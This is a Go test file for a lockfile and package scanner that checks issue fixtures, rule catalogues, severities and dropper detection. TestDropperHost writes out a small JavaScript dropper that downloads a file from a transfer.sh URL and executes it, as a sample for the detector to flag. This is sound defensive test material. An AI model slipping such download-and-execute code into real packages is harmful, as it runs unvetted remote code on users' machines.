package issue_test

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"golang.org/x/tools/txtar"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/archive"
	"github.com/lockwarden/lockwarden/analyzer/issue"
	"github.com/lockwarden/lockwarden/analyzer/vulnerability"
	"github.com/lockwarden/lockwarden/lockfile"
	"github.com/lockwarden/lockwarden/templates"
)

// withoutFixture are issues that are tested where they arise: on a lockfile as
// a whole (app/review), and on a real package (analyzer).
var withoutFixture = map[string]bool{"lockfile/manifest-drift": true, "lockfile/not-locked": true, "lockfile/flags": true, "lockfile/unlocked": true, "lockfile/repacked": true, "lockfile/halves": true, "secret/common-key": true}

// entry is a lockfile's entry in a fixture.
type entry struct {
	Name, Version, Resolved, Integrity string
	Bundled                            bool
	Patch, Checksum                    string
	Bin, Dependencies                  map[string]string
}

func (e *entry) real() *lockfile.Entry {
	if e == nil {
		return nil
	}
	var dependencies []lockfile.Dependency
	for name, spec := range e.Dependencies {
		dependencies = append(dependencies, lockfile.Dependency{Name: name, Spec: spec, Kind: lockfile.Prod})
	}
	return &lockfile.Entry{Bin: e.Bin, Dependencies: dependencies, Location: "node_modules/" + e.Name, Name: e.Name, Package: e.Name, Version: e.Version, Resolved: e.Resolved, Integrity: e.Integrity, Bundled: e.Bundled, Patch: e.Patch, Checksum: e.Checksum}
}

// readCase makes the Input of one case of a fixture.
func readCase(t *testing.T, engine *analyzer.Engine, files map[string][]byte) *issue.Input {
	t.Helper()
	in := &issue.Input{Name: "a", Version: "1.0.0", ConfiguredHost: func(host string) bool { return host == "registry.npmjs.org" }}
	var binaries map[string]string
	contents := func(side string) *issue.Contents {
		inside := map[string][]byte{}
		for name, kind := range binaries {
			if rest, ok := strings.CutPrefix(name, side+"/"); ok {
				inside[rest] = binary(t, kind)
			}
		}
		for name, data := range files {
			if rest, ok := strings.CutPrefix(name, side+"/"); ok {
				inside[rest] = data
			}
		}
		if len(inside) == 0 {
			return nil
		}
		c, err := engine.Contents(archive.New(inside), false, nil, func(string) {})
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	decode := func(name string, v any) bool {
		data, ok := files[name]
		if ok {
			if err := json.Unmarshal(data, v); err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
		return ok
	}
	decode("binaries.json", &binaries)
	in.Contents, in.Old = contents("new"), contents("old")
	var r struct {
		Now       time.Time
		Internal  []string
		Incidents []vulnerability.Advisory
	}
	decode("review.json", &r)
	in.Now, in.Internal, in.Incidents = r.Now, r.Internal, r.Incidents
	decode("metadata.json", &in.Metadata)
	decode("advisories.json", &in.Advisories)
	decode("old-advisories.json", &in.OldAdvisories)
	var fetch issue.FetchProblem
	if decode("fetch.json", &fetch) {
		in.Fetch = &fetch
	}
	var change struct {
		Kind     lockfile.Kind
		New, Old *entry
		// Undeclared is as Compare finds it, which lockfile's tests show.
		Undeclared  []lockfile.Undeclared
		Differences []lockfile.Difference
	}
	if decode("change.json", &change) {
		in.Name, in.Version = change.New.Name, change.New.Version
		c := &lockfile.Change{Kind: change.Kind, Name: in.Name, To: change.New.Version, New: change.New.real(), Old: change.Old.real()}
		if c.Old != nil {
			c.From = c.Old.Version
			if c.Kind == lockfile.Moved {
				c.Differences = change.Differences
			}
			if c.Kind == lockfile.Replaced {
				c.Differences = lockfile.Differences(c.Old, c.New)
			}
		}
		c.Resolved, c.Undeclared = c.New.Resolved, change.Undeclared
		in.Change, in.Entries = c, []*lockfile.Entry{c.New}
	}
	return in
}

// binary is a file that a text archive cannot hold.
func binary(t *testing.T, kind string) []byte {
	zeros := strings.Repeat("\x00", 80)
	switch kind {
	case "elf":
		return []byte("\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 9) + "\x03\x00\x3e\x00" + zeros)
	case "wasm":
		return []byte("\x00asm\x01\x00\x00\x00" + zeros)
	case "png":
		return []byte("\x89PNG\r\n\x1a\n" + zeros)
	case "png and script":
		return []byte("\x89PNG\r\n\x1a\n" + zeros + "IEND\xae\x42\x60\x82" + "const a = require('none');\nfunction f () { return process.argv }\nmodule.exports = f;\n")
	case "21 MB script":
		return []byte(strings.Repeat("// nothing but comment\n", 930_000))
	}
	t.Fatalf("no binary %q", kind)
	return nil
}

// TestFixtures runs the cases of testdata/<id>.txtar: a case "hit …" must give
// the issue, a case "quiet …" must not; both kinds must be there.
func TestFixtures(t *testing.T) {
	engine, err := analyzer.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range issue.IDs() {
		// Those of a project's settings are tested in project_test.go.
		if withoutFixture[id] || strings.HasPrefix(id, "project/") {
			continue
		}
		t.Run(id, func(t *testing.T) {
			a, err := txtar.ParseFile("testdata/" + id + ".txtar")
			if err != nil {
				t.Fatalf("%s has no fixture: write testdata/%s.txtar", id, id)
			}
			cases := map[string]map[string][]byte{}
			for _, f := range a.Files {
				name, rest, _ := strings.Cut(f.Name, "/")
				if cases[name] == nil {
					cases[name] = map[string][]byte{}
				}
				cases[name][rest] = f.Data
			}
			hits, quiets := 0, 0
			for name, files := range cases {
				t.Run(name, func(t *testing.T) {
					found := issue.Judge(readCase(t, engine, files))
					var match *issue.Issue
					for i := range found {
						if found[i].ID == id {
							match = &found[i]
						}
					}
					switch {
					case strings.HasPrefix(name, "hit "):
						hits++
						if match == nil {
							t.Fatal("the issue is not found")
						}
						for _, place := range templates.Places(id) {
							if match.Detail[place] == "" {
								t.Errorf("the text's {%s} is not filled", place)
							}
						}
						if text := templates.Issue(id, match.Detail); strings.Contains(text.Title+text.Problem+text.NextSteps, "{") {
							t.Errorf("a place is left open: %+v", text)
						}
					case strings.HasPrefix(name, "quiet "):
						quiets++
						if match != nil {
							t.Errorf("the issue is found: %+v", match)
						}
					default:
						t.Errorf("a case is named \"hit …\" or \"quiet …\"")
					}
				})
			}
			if hits == 0 || quiets == 0 {
				t.Errorf("%d hits and %d near-misses; want at least one of each", hits, quiets)
			}
		})
	}
}

// TestCatalogue compares ids, texts and fixtures, both ways.
func TestCatalogue(t *testing.T) {
	ids, texts := issue.IDs(), templates.IDs("issue")
	sort.Strings(texts)
	for _, id := range ids {
		if !slices.Contains(texts, id) {
			t.Errorf("write templates/issue/%s.md", id)
		}
	}
	for _, id := range texts {
		// policy/, unknown/ and license/denied are what a project's policy makes issues.
		if !slices.Contains(ids, id) && !strings.HasPrefix(id, "policy/") && !strings.HasPrefix(id, "unknown/") && id != "license/denied" {
			t.Errorf("templates/issue/%s.md is of no rule", id)
		}
	}
	fixtures, _ := filepath.Glob("testdata/*/*.txtar")
	for _, path := range fixtures {
		id := strings.TrimSuffix(strings.TrimPrefix(filepath.ToSlash(path), "testdata/"), ".txtar")
		if !slices.Contains(ids, id) {
			t.Errorf("%s is of no rule", path)
		}
	}
	profiles := templates.IDs("profile")
	sort.Strings(profiles)
	names := issue.Profiles()
	sort.Strings(names)
	if !slices.Equal(profiles, names) {
		t.Errorf("profiles.txt has %q, templates/profile %q", names, profiles)
	}
}

func TestSeverities(t *testing.T) {
	for _, name := range []string{"critical", "high", "medium", "low", "info"} {
		s, err := issue.ParseSeverity(name)
		if err != nil || s.String() != name {
			t.Errorf("%s: %v %v", name, s, err)
		}
	}
	if _, err := issue.ParseSeverity("awful"); err == nil {
		t.Error("awful is a severity")
	}
}

// TestDropperHost: a program of many scripts that downloads and starts things is
// no dropper because it names a host for throw-away files in a list.
func TestDropperHost(t *testing.T) {
	engine, err := analyzer.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	const download = "const https = require('https'), fs = require('fs'), cp = require('child_process')\n" +
		"https.get(URL, answer => { answer.pipe(fs.createWriteStream('tool')); cp.execFile('./tool') })\n"
	for name, test := range map[string]struct {
		load, list string
		want       bool
	}{
		"in a list":         {strings.Replace(download, "URL", "process.env.TOOL_URL", 1), "module.exports = ['https://transfer.sh/']", false},
		"in what downloads": {strings.Replace(download, "URL", "'https://transfer.sh/none/tool'", 1), "module.exports = []", true},
	} {
		files := map[string][]byte{"new/package.json": []byte(`{"name": "a", "version": "1.0.0"}`), "new/list.js": []byte(test.list), "new/load.js": []byte(test.load)}
		index := "require('./list')\nrequire('./load')\n"
		for i := range 25 {
			files[fmt.Sprintf("new/part%d.js", i)] = []byte("exports.part = 1")
			index += fmt.Sprintf("require('./part%d')\n", i)
		}
		files["new/index.js"] = []byte(index)
		found := false
		for _, i := range issue.Judge(readCase(t, engine, files)) {
			found = found || i.ID == "malware/behavior-similarity" && i.Detail["profile"] == "dropper"
		}
		if found != test.want {
			t.Errorf("%s: a dropper: %v, want %v", name, found, test.want)
		}
	}
}
